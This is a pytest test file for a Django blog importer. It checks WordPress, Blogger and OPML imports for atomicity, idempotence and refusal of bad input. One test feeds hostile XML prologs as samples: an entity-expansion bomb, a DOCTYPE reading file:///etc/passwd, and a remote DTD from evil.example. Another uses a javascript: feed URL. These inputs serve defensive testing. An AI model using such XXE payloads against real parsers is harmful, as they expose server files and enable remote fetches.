"""What an import must never do: half-write, write twice, parse a DTD, or touch the public site
before it commits."""

from __future__ import annotations

import json
from io import StringIO

import pytest
from django.core.management import call_command
from django.core.management.base import CommandError

from dateline.blog import services as blog_services
from dateline.blog import signals
from dateline.blog.models import Label, OldAddress, Post, SearchDocument
from dateline.comments.models import Comment
from dateline.porting.exceptions import MalformedExport, RefusedExport, UnknownFormat
from dateline.porting.importing import import_file
from dateline.porting.models import SourceRecord

pytestmark = pytest.mark.django_db

WP = "http://wordpress.org/export/1.2/"


def wxr(items: str, *, extra_prolog: str = "") -> str:
    return f"""<?xml version="1.0" encoding="UTF-8"?>{extra_prolog}
<rss version="2.0" xmlns:content="http://purl.org/rss/1.0/modules/content/"
 xmlns:dc="http://purl.org/dc/elements/1.1/" xmlns:wp="{WP}">
<channel><title>Erbil notes</title><link>https://erbil.example</link>
<wp:wxr_version>1.2</wp:wxr_version>
{items}
</channel></rss>"""


def item(n: int, *, status: str = "publish", comments: str = "") -> str:
    month = n % 9 + 1
    return f"""<item><title>Post {n}</title>
<link>https://erbil.example/2015/0{month}/1{n % 10}/post-{n}/</link>
<dc:creator>editor</dc:creator><content:encoded><![CDATA[<p>Body {n}</p>]]></content:encoded>
<wp:post_id>{n}</wp:post_id>
<wp:post_date_gmt>2015-0{month}-1{n % 10} 10:00:00</wp:post_date_gmt>
<wp:post_name>post-{n}</wp:post_name><wp:status>{status}</wp:status><wp:post_type>post</wp:post_type>
<category domain="category" nicename="iraq"><![CDATA[Iraq]]></category>{comments}</item>"""


def comment(n: int, *, parent: int = 0, approved: str = "0") -> str:
    return f"""<wp:comment><wp:comment_id>{n}</wp:comment_id>
<wp:comment_author>Reader {n}</wp:comment_author>
<wp:comment_date_gmt>2015-02-02 10:00:00</wp:comment_date_gmt>
<wp:comment_content>Comment {n}</wp:comment_content>
<wp:comment_approved>{approved}</wp:comment_approved><wp:comment_parent>{parent}</wp:comment_parent></wp:comment>"""


def _write(tmp_path, text: str, name: str = "export.xml"):
    path = tmp_path / name
    path.write_text(text, encoding="utf-8")
    return path


def _nothing_written() -> bool:
    return not any(
        model.objects.exists()
        for model in (Post, Label, Comment, SourceRecord, OldAddress, SearchDocument)
    )


def test_importing_the_same_file_again_creates_nothing_twice(tmp_path):
    path = _write(tmp_path, wxr(item(1, comments=comment(10) + comment(11, parent=10)) + item(2)))
    first = import_file(path)
    assert (first.posts, first.comments, first.replies) == (2, 2, 1)
    again = import_file(path)
    assert (again.posts, again.comments) == (0, 0)
    assert again.skipped["already imported"] == 4
    assert (Post.objects.count(), Comment.objects.count()) == (2, 2)


def test_threads_statuses_and_a_reply_whose_parent_is_missing(tmp_path):
    comments = (
        comment(10, approved="1")
        + comment(11, parent=10, approved="spam")
        + comment(12, parent=99, approved="trash")
    )
    report = import_file(_write(tmp_path, wxr(item(1, comments=comments))))
    assert (report.comments, report.replies) == (3, 2)
    first = Comment.objects.get(author_name="Reader 10")
    reply = Comment.objects.get(author_name="Reader 11")
    orphan = Comment.objects.get(author_name="Reader 12")
    assert (reply.parent, reply.status) == (first, "spam")
    assert (orphan.parent, orphan.status) == (None, "deleted")
    assert first.body_html == "<p>Comment 10</p>"


def test_a_dry_run_counts_and_writes_nothing(tmp_path):
    path = _write(tmp_path, wxr(item(1, comments=comment(10)) + item(2, status="draft")))
    report = import_file(path, dry_run=True)
    assert (report.posts, report.drafts, report.comments, report.labels) == (2, 1, 1, 1)
    assert _nothing_written()


def test_a_file_broken_half_way_leaves_no_rows(tmp_path):
    text = wxr("".join(item(n) for n in range(1, 8))).replace("</channel>", "<item></channel>")
    path = _write(tmp_path, text)
    with pytest.raises(MalformedExport, match=r"export.xml:\d+:\d+: "):
        import_file(path)
    assert _nothing_written()


def test_an_interrupt_mid_import_leaves_no_rows(tmp_path):
    path = _write(tmp_path, wxr("".join(item(n) for n in range(1, 700))))
    calls = []

    def progress(done, total):
        calls.append(done)
        if len(calls) == 3:  # Ctrl-C once the import has written posts
            assert Post.objects.exists()
            raise KeyboardInterrupt

    with pytest.raises(KeyboardInterrupt):
        import_file(path, progress=progress)
    assert _nothing_written()


def test_the_import_is_quiet_and_changes_the_public_site_once_on_commit(
    tmp_path, django_capture_on_commit_callbacks
):
    approved = comment(20, approved="1") + comment(21, parent=20, approved="1")
    path = _write(
        tmp_path, wxr("".join(item(n, comments=approved * (n == 1)) for n in range(1, 6)))
    )
    heard = []

    def listener(sender, post, **kwargs):
        heard.append(post.pk)

    signals.post_published.connect(listener)
    signals.post_updated.connect(listener)
    before = blog_services.site_generation()[0]
    try:
        with django_capture_on_commit_callbacks(execute=True):
            import_file(path)
    finally:
        signals.post_published.disconnect(listener)
        signals.post_updated.disconnect(listener)
    assert heard == []
    assert blog_services.site_generation()[0] == before + 1
    assert Post.objects.filter(updated_at__isnull=False).count() == 0


@pytest.mark.parametrize(
    ("prolog", "named"),
    [
        (
            '<!DOCTYPE rss [<!ENTITY lol "lol"><!ENTITY lol1 "&lol;&lol;&lol;&lol;">]>',
            "declaring the entities lol, lol1",
        ),
        ('<!DOCTYPE rss SYSTEM "file:///etc/passwd">', 'SYSTEM "file:///etc/passwd"'),
        (
            '<!DOCTYPE rss [<!ENTITY % remote SYSTEM "http://evil.example/x.dtd"> %remote;]>',
            "remote",
        ),
    ],
)
def test_dtds_and_entities_are_refused_by_name(tmp_path, prolog, named):
    path = _write(tmp_path, wxr(item(1), extra_prolog=prolog))
    with pytest.raises(RefusedExport) as refused:
        import_file(path)
    assert named in str(refused.value) and "refused" in str(refused.value)
    assert _nothing_written()


@pytest.mark.parametrize(
    ("content", "says"),
    [
        (b"", "an empty file"),
        (b'{"posts": []}', "JSON"),
        (b"PK\x03\x04rest", "a ZIP archive"),
        (b"just some words", "text that is not XML"),
        (b"<html><body>hi</body></html>", "root element is <html>"),
    ],
)
def test_anything_else_is_refused_in_one_line_saying_what_it_looked_like(tmp_path, content, says):
    path = tmp_path / "mystery"
    path.write_bytes(content)
    with pytest.raises(UnknownFormat) as refused:
        import_file(path)
    assert says in str(refused.value) and "\n" not in str(refused.value)


def test_the_command_exits_non_zero_with_the_message(tmp_path):
    path = _write(tmp_path, "<rss><channel><item></channel></rss>")
    with pytest.raises(CommandError, match=r"export.xml:1:\d+: "):
        call_command("import", str(path), "--json", stdout=StringIO(), stderr=StringIO())


def test_an_opml_file_is_handed_to_the_wire(tmp_path):
    path = _write(
        tmp_path,
        """<?xml version="1.0"?><opml version="2.0"><head><title>f</title></head><body>
<outline text="Rudaw" type="rss" xmlUrl="https://rudaw.example/rss"/>
<outline text="Bad" type="rss" xmlUrl="javascript:alert(1)"/></body></opml>""",
        "feeds.opml",
    )
    out = StringIO()
    call_command("import", str(path), "--json", stdout=out, stderr=StringIO())
    report = json.loads(out.getvalue().strip().splitlines()[-1])
    assert report["format"] == "opml" and report["feeds"] == 1
    assert report["skipped"] == {"not a web address": 1}


def test_a_takeout_comments_file_is_the_users_comments_elsewhere(tmp_path):
    entries = "".join(
        f"""<entry><id>tag:blogger.com,1999:blog-99.post-{n}</id>
<blogger:parent>tag:blogger.com,1999:blog-77.post-5</blogger:parent>
<blogger:type>COMMENT</blogger:type><blogger:status>LIVE</blogger:status>
<author><name>Me</name></author><content type="html">Nice post {n}</content>
<published>2016-05-02T08:07:20Z</published></entry>"""
        for n in range(3)
    )
    path = _write(
        tmp_path,
        f"""<?xml version="1.0"?><feed xmlns="http://www.w3.org/2005/Atom"
 xmlns:blogger="http://schemas.google.com/blogger/2018"><id>x</id>{entries}</feed>""",
        "feed.atom",
    )
    out = StringIO()
    call_command("import", str(path), "--json", stdout=out, stderr=StringIO())
    report = json.loads(out.getvalue().strip().splitlines()[-1])
    assert (report["posts"], report["comments"]) == (0, 0)
    assert report["skipped"] == {"comments on other blogs": 3}
    assert _nothing_written()


def test_ns0_converter_output_reads_as_blogger(tmp_path):
    path = _write(
        tmp_path,
        """<?xml version="1.0"?><ns0:feed xmlns:ns0="http://www.w3.org/2005/Atom"
 xmlns:ns1="http://schemas.google.com/blogger/2018"><ns0:id>tag:blogger.com,1999:blog-5</ns0:id>
<ns0:entry><ns0:id>tag:blogger.com,1999:blog-5.post-1</ns0:id><ns1:type>POST</ns1:type>
<ns1:status>LIVE</ns1:status><ns0:title>Kobani</ns0:title>
<ns0:content type="html">&lt;p&gt;Siege&lt;/p&gt;</ns0:content>
<ns0:published>2014-10-01T10:00:00Z</ns0:published><ns1:filename>/2014/10/kobani.html</ns1:filename>
<ns0:category term="Syria"/></ns0:entry>
<ns0:entry><ns0:id>tag:blogger.com,1999:blog-5.post-2</ns0:id><ns1:type>COMMENT</ns1:type>
<ns1:parent>tag:blogger.com,1999:blog-5.post-1</ns1:parent><ns1:inReplyTo>3</ns1:inReplyTo>
<ns1:status>SPAM_COMMENT</ns1:status><ns0:content type="html">buy</ns0:content></ns0:entry>
<ns0:entry><ns0:id>tag:blogger.com,1999:blog-5.post-9</ns0:id><ns1:type>POST</ns1:type>
<ns1:status>SOFT_TRASHED</ns1:status><ns0:title>Gone</ns0:title></ns0:entry>
</ns0:feed>""",
    )
    report = import_file(path)
    assert report.format == "blogger-takeout-ns0"
    assert (report.posts, report.comments, report.replies) == (1, 1, 1)
    assert report.skipped == {"trashed": 1}
    assert SourceRecord.objects.filter(kind="skipped", reason="trashed").count() == 1
    assert OldAddress.objects.get().key == "/2014/10/kobani.html"


def test_fetch_images_stores_the_pictures_and_rewrites_their_links(tmp_path, settings):
    import io

    from PIL import Image as PillowImage

    from tests.support.loopback import LoopbackServer, Reply

    settings.FETCH_ALLOW_LOOPBACK = True
    settings.MEDIA_ROOT = str(tmp_path / "media")
    picture = io.BytesIO()
    PillowImage.new("RGB", (40, 30), (200, 10, 10)).save(picture, format="PNG")
    with LoopbackServer() as server:
        server.route(
            "/kobani.png", Reply(body=picture.getvalue(), headers={"Content-Type": "image/png"})
        )
        good, missing = server.url("/kobani.png"), server.url("/gone.png")
        body = f'<p>Siege</p><img src="{good}" alt=""><img src="{missing}" alt="">'
        text = wxr(item(1).replace("<![CDATA[<p>Body 1</p>]]>", f"<![CDATA[{body}]]>"))
        report = import_file(_write(tmp_path, text), fetch_images=True)
    stored = Post.objects.get().parts.get().body
    assert good not in stored and "/media/" in stored
    assert missing in stored
    assert report.images == 2 and report.skipped["image not fetched"] == 1


def test_from_the_command_line_a_malformed_file_is_one_line_and_exit_1(tmp_path):
    import os
    import subprocess
    import sys

    env = {**os.environ, "DATELINE_DATABASE_URL": f"sqlite:///{tmp_path / 'cli.sqlite3'}"}
    env.pop("DJANGO_SETTINGS_MODULE", None)
    run = [sys.executable, "-m", "dateline.cli"]
    subprocess.run([*run, "migrate", "-v0"], env=env, check=True, capture_output=True)
    path = _write(tmp_path, wxr(item(1)).replace("</channel>", "<item></channel>"))
    done = subprocess.run([*run, "import", str(path)], env=env, capture_output=True, text=True)
    assert done.returncode == 1
    assert done.stderr.strip().count("\n") == 0
    assert done.stderr.startswith(f"{path}:") and "Opening and ending tag mismatch" in done.stderr
